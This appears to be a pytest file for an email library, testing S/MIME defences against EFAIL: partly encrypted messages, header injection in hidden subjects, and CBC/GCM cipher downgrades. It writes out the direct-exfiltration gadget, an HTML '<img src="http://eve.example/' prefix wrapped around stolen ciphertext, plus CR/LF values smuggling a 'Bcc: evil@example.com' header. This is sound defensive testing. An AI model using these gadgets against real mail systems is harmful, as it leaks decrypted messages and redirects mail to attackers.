"""EFAIL: a part that was decrypted is never joined with one that was not.

Direct exfiltration: the ciphertext of others is put between two parts of one's own, ``<img
src="http://…`` before it and ``">`` behind it, and whoever joins the three calls out the secret.
"""

from __future__ import annotations

import pytest

from courriel import Email, Garbled, Misused
from courriel.crypto import der, enveloped_data, oids, smime
from courriel.crypto.entity import base64_entity, halves
from courriel.crypto.mixture import PARTIAL, encrypted_parts, protection
from tests.crypto.people import LETTER, NOW, ada, bob, root

SECRET = "the engine's secret"
BEFORE = b'Content-Type: text/html\r\n\r\n<img src="http://eve.example/'
BEHIND = b'Content-Type: text/html\r\n\r\n">'
PGP = (
    b'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=p\r\n\r\n'
    b"--p\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
    b"--p\r\nContent-Type: application/octet-stream\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n--p--\r\n"
)


def sealed() -> Email:
    secret = Email(sender="ada@example.org", to="bob@example.org", html=f"<p>{SECRET}</p>")
    return smime.encrypt(secret, [bob().certificate])


def entity(email: Email) -> bytes:
    return halves(email).entity


def between(*parts: bytes, subtype: bytes = b"mixed") -> Email:
    head = b"From: eve@example.org\r\nDate: Sat, 21 Nov 2026 12:00:00 +0000\r\nSubject: Hi\r\n"
    type_ = b"Content-Type: multipart/%s; boundary=eve\r\n\r\n" % subtype
    body = b"".join(b"--eve\r\n%s\r\n" % part for part in parts)
    return Email.from_source(head + type_ + body + b"--eve--\r\n")


@pytest.mark.parametrize("subtype", [b"mixed", b"related", b"alternative", b"digest"])
def test_w04_efail_direct_exfiltration(subtype: bytes) -> None:
    attack = between(BEFORE, entity(sealed()), BEHIND, subtype=subtype)
    assert SECRET not in f"{attack.text} {attack.html}"
    with pytest.raises(Misused, match="not encrypted with S/MIME as a whole"):
        smime.decrypt(attack, bob())
    (part,) = encrypted_parts(attack)
    opened = smime.decrypt(part, bob()).email
    assert f"<p>{SECRET}</p>" == (opened.html or "").strip()
    assert "eve.example" not in f"{opened.text} {opened.html} {opened.attachments}"
    assert (attack.sender, attack.subject) == (opened.sender, opened.subject)
    # What was read before is what it was.
    assert SECRET not in f"{attack.text} {attack.html}"


def test_a_partly_encrypted_message_is_told() -> None:
    attack = between(BEFORE, entity(sealed()), BEHIND)
    told = protection(attack)
    assert told.partial and told.encrypted is None
    assert (PARTIAL,) == told.defects
    deep = between(BEFORE, entity(between(entity(sealed()))))
    assert protection(deep).partial
    assert 1 == len(encrypted_parts(deep))
    assert protection(between(BEFORE, PGP)).partial
    assert protection(smime.sign(attack, ada())).partial


def test_a_message_that_is_encrypted_as_a_whole_is_not_partial() -> None:
    whole = sealed()
    assert "smime" == protection(whole).encrypted
    assert (whole,) == encrypted_parts(whole)
    signed = smime.sign(whole, ada(), at=NOW)
    told = protection(signed)
    assert ("smime", "smime", False) == (told.signed, told.encrypted, told.partial)
    pgp = Email.from_source(b"From: eve@example.org\r\n" + PGP)
    assert ("openpgp", False) == (protection(pgp).encrypted, protection(pgp).partial)
    assert () == protection(LETTER).defects
    assert () == encrypted_parts(LETTER)


def test_w04_parts_that_are_each_encrypted_stay_apart() -> None:
    one, two = encrypted_parts(between(entity(sealed()), BEFORE, entity(sealed())))
    assert SECRET in (smime.decrypt(one, bob()).email.html or "")
    assert 1 == (smime.decrypt(two, bob()).email.html or "").count(SECRET)


def test_a_part_brings_no_author_of_its_own() -> None:
    forged = b"From: boss@example.org\r\nSubject: Pay\r\n" + entity(sealed())
    (part,) = encrypted_parts(between(BEFORE, forged))
    assert ("eve@example.org",) == part.headers.all("From")
    assert ("Hi",) == part.headers.all("Subject")


def test_w04_a_signature_around_a_part_does_not_make_it_whole() -> None:
    """Eve signs her three parts, the middle one of which she cannot read."""
    attack = between(BEFORE, entity(sealed()), BEHIND)
    for opaque in (False, True):
        signed = smime.sign(attack, bob(), opaque=opaque, at=NOW)
        with pytest.raises(Misused, match="not encrypted with S/MIME as a whole"):
            smime.decrypt(signed, bob(), roots=[root().certificate], at=NOW)


def test_i03_a_line_end_in_a_hidden_subject_starts_no_field() -> None:
    """What was encrypted may bring a subject of its own, and nothing else."""
    for subject in (
        b"=?utf-8?q?a=0ABcc=3A_evil=40example.com?=",
        b"a\rBcc: evil@example.com",
        b"a\r\r\nBcc: evil@example.com",
        b"a\r\n\r\nBcc: evil@example.com",
    ):
        inside = b"Subject: %s\r\nBcc: evil@example.com\r\nContent-Type: text/plain\r\n\r\nHi"
        opened = halves(sealed()).revealing(inside % subject)
        assert () == opened.headers.all("Bcc")
        assert 1 == len(opened.headers.all("Subject"))
        again = Email(sender="ada@example.org", subject=opened.subject, text="Hi")
        assert b"\nBcc" not in again.source and b"\rBcc" not in again.source


def test_a_changed_ciphertext_in_cbc_is_told_as_not_authenticated() -> None:
    """The gadgets of EFAIL need a cipher in which nobody notices a change."""
    letter = Email(sender="ada@example.org", text="x" * 100)
    plain = smime.decrypt(smime.encrypt(letter, [bob("rsa").certificate]), bob("rsa"))
    safe = smime.encrypt(letter, [bob("rsa").certificate], cipher="aes-256-gcm")
    assert (False, True) == (
        plain.authenticated,
        smime.decrypt(safe, bob("rsa")).authenticated,
    )


def test_a_message_in_gcm_cannot_be_passed_off_as_one_in_cbc() -> None:
    """In CBC its blocks would be read without the check (RFC 9709, 1)."""
    octets = enveloped_data.write(b"x" * 64, (bob("rsa").certificate,), gcm=True)
    for kind, name in (
        (oids.AUTH_ENVELOPED_DATA, oids.AES_256_CBC),
        (oids.ENVELOPED_DATA, oids.AES_256_GCM),
    ):
        changed = octets.replace(
            der.object_identifier(oids.AUTH_ENVELOPED_DATA), der.object_identifier(kind)
        ).replace(der.object_identifier(oids.AES_256_GCM), der.object_identifier(name))
        type_ = "application/pkcs7-mime; smime-type=enveloped-data"
        email = halves(LETTER).around(base64_entity(type_, "smime.p7m", changed))
        with pytest.raises((Garbled, Misused)):
            smime.decrypt(email, bob("rsa"))


def test_what_stands_behind_the_ciphertext_is_not_in_it() -> None:
    trailing = Email.from_source(sealed().source + b"\r\n<p>eve.example</p>")
    assert "smime" == protection(trailing).encrypted
    opened = smime.decrypt(trailing, bob()).email
    assert f"<p>{SECRET}</p>" == (opened.html or "").strip()
